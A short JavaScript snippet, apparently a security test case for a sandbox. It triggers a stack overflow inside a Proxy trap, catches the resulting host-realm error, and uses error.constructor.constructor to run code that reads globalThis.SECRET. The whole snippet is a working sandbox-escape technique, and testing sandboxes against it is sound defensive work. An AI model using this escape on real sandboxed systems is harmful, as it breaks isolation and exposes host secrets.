function deep() {
  new Error('own').stack;
  deep();
}
let found;
const proxy = new Proxy({}, { getPrototypeOf() { deep(); } });
at_step();
try {
  try {
    throw proxy;
  } catch (own) {
    Object.getPrototypeOf(own);
  }
} catch (error) {
  found = error.constructor.constructor('return globalThis.SECRET')();
}
past_step();
emit(found);
